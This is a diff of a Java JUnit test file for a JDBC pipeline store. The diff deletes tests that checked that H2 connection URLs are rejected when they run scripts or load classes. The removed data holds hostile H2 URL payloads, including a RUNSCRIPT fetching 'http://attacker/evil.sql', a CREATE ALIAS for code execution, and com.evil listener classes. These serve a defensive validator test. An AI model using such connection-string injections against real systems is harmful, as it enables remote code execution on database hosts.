@@ -1,45 +1,12 @@
 package dev.pipeline.jdbc;
 
 import static org.assertj.core.api.Assertions.assertThat;
-import static org.assertj.core.api.Assertions.assertThatCode;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
 import java.nio.file.Path;
 import org.junit.jupiter.api.Test;
-import org.junit.jupiter.params.ParameterizedTest;
-import org.junit.jupiter.params.provider.ValueSource;
 
 class ConnectionsTest {
-
-  @ParameterizedTest
-  @ValueSource(
-      strings = {
-        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://attacker/evil.sql'",
-        "jdbc:h2:mem:x;init=CREATE ALIAS EXEC AS 'void e(String c) throws Exception {}'",
-        "jdbc:h2:mem:x;DB_CLOSE_DELAY=-1; INIT =CREATE TABLE x(a INT)",
-        "jdbc:h2:file:/tmp/x;runscript from 'x.sql'",
-        "jdbc:h2:mem:x;DATABASE_EVENT_LISTENER='com.evil.Listener'",
-        "jdbc:h2:mem:x;JAVA_OBJECT_SERIALIZER='com.evil.Serializer'",
-        "jdbc:h2:mem:x;AUTHENTICATOR=com.evil.Auth",
-        "jdbc:h2:mem:x;TRACE_LEVEL_SYSTEM_OUT=3",
-        "JDBC:H2:mem:x;Init=SELECT 1"
-      })
-  void h2UrlsThatRunScriptsOrLoadClassesAreRejected(String url) {
-    assertThatThrownBy(() -> JdbcPipelineStore.builder().jdbcUrl(url, "sa", ""))
-        .isInstanceOf(IllegalArgumentException.class)
-        .hasMessageContaining("H2 URL rejected");
-  }
-
-  @ParameterizedTest
-  @ValueSource(
-      strings = {
-        "jdbc:h2:mem:x;DB_CLOSE_DELAY=-1",
-        "jdbc:h2:file:/tmp/data/x;WRITE_DELAY=0;MODE=PostgreSQL",
-        "jdbc:postgresql://127.0.0.1:5432/test?user=postgres&ApplicationName=INIT"
-      })
-  void ordinaryUrlsAreAccepted(String url) {
-    assertThatCode(() -> Connections.checkUrl(url)).doesNotThrowAnyException();
-  }
 
   @Test
   void anH2FileUrlWritesEachCommitAndCannotCarrySettingsInItsPath() {
